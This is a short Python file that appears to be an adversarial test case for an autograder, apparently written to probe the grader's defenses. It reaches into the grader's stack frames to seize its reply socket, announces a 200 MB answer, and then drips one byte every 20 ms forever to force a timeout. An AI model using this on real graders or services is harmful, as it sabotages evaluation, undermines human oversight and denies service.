"""Send an answer that never ends, byte by byte.

Tries: one byte every 20 ms of a reply that announces 200 MB.
Success: the grader waits for longer than the time limit.
Outcome: timeout.
"""

import sys
import time

from autograder.wire.encode import encode
from autograder.wire.limits import HEADER, MAGIC


def channel():
    """The socket on which the grader waits for the answer."""
    frame = sys._getframe()
    while "reply_to" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["reply_to"]


def frame_of(tree, blob=b""):
    """A message around any bytes."""
    return HEADER.pack(MAGIC, len(tree), len(blob)) + tree + blob


ANSWER = encode(("", None, (), "", "", 0))


def attack(targets, model):
    reply_to = channel()
    reply_to.sendall(HEADER.pack(MAGIC, 16, 200 << 20))
    while True:
        reply_to.sendall(b"x")
        time.sleep(0.02)
